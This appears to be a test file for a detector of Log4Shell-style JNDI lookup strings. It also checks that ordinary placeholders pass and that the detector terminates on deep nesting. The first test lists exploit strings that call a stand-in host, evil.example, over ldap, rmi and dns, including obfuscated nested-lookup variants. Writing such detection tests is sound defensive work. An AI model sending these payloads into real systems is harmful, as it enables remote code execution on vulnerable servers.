import assert from "node:assert/strict";
import fc from "fast-check";
import { loadsByLookup } from "../../src/grammar/lookup.ts";

Deno.test("loadsByLookup() sees a JNDI lookup, also when other lookups spell it", () => {
  for (
    const text of [
      "${jndi:ldap://evil.example/a}",
      "Agent/1.0 ${JNDI:rmi://evil.example/a}",
      "${${lower:j}ndi:dns://evil.example}",
      "${${::-j}${::-n}${env:x:-d}i:ldap://evil.example}",
    ]
  ) assert.ok(loadsByLookup(text), text);
});

Deno.test("loadsByLookup() lets other placeholders and prose pass", () => {
  for (
    const text of [
      "${name}",
      "${env:HOME}/x",
      "`${a}${b}`",
      "${jndi}",
      "We block strings such as ${jndi:ldap://x} in the firewall.",
      "${",
    ]
  ) assert.ok(!loadsByLookup(text), text);
});

Deno.test("loadsByLookup() ends on any nesting", () => {
  assert.ok(!loadsByLookup("${a:".repeat(500) + "}".repeat(48)));
  assert.ok(!loadsByLookup("${a}".repeat(500)));
  const part = fc.constantFrom("${", "}", "jndi:", "ldap:", "a", ":-");
  fc.assert(fc.property(fc.array(part), (parts) => void loadsByLookup(parts.join(""))));
});
